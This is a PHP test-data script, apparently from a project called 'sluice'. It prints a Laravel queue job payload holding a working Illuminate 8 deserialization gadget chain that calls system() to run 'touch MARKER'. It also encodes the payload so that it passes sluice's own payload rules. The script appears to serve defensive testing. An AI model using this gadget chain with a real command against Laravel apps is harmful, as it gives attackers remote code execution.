<?php
// php testdata/gadget.php MARKER: prints a sluice job request (JSON) whose
// payload is what an attacker who can enqueue would send to a Laravel app: a
// Laravel job payload naming CallQueuedHandler@call, whose "command" is a
// gadget chain made of Illuminate 8's own classes (PendingBroadcast's
// __destruct -> Bus\Dispatcher::dispatch -> call_user_func('system', ...)),
// that runs `touch MARKER` when unserialized. Protected property names are
// written in unserialize()'s S: form (\00 escapes), so the JSON holds no NUL
// byte and sluice's payload rules accept it.
declare(strict_types=1);
require '/usr/share/php/Illuminate/autoload.php';

$marker = $argv[1] ?? '/tmp/sluice-gadget-ran';
$set = function (object $o, string $prop, mixed $v): void {
    $r = new ReflectionProperty($o, $prop);
    $r->setAccessible(true);
    $r->setValue($o, $v);
};
$event = (new ReflectionClass(Illuminate\Broadcasting\BroadcastEvent::class))->newInstanceWithoutConstructor();
$event->connection = 'touch ' . escapeshellarg($marker);
$bus = (new ReflectionClass(Illuminate\Bus\Dispatcher::class))->newInstanceWithoutConstructor();
$set($bus, 'queueResolver', 'system');
$pending = (new ReflectionClass(Illuminate\Broadcasting\PendingBroadcast::class))->newInstanceWithoutConstructor();
$set($pending, 'events', $bus);
$set($pending, 'event', $event);
$command = preg_replace_callback('/s:(\d+):"([^"]*\x00[^"]*)"/', fn ($m) => 'S:' . $m[1] . ':"' . str_replace("\0", '\00', $m[2]) . '"', serialize($pending));
// Nothing here may run the chain: forget the objects without destructing them.
$set($pending, 'events', new class { public function dispatch($e) {} });

echo json_encode([
    'type' => 'laravel',
    'payload' => [
        'uuid' => '00000000-0000-0000-0000-000000000000',
        'displayName' => 'App\\Jobs\\SyncOrder',
        'job' => 'Illuminate\\Queue\\CallQueuedHandler@call',
        'maxTries' => 1,
        'data' => ['commandName' => 'App\\Jobs\\SyncOrder', 'command' => $command],
    ],
], JSON_UNESCAPED_SLASHES), "\n";
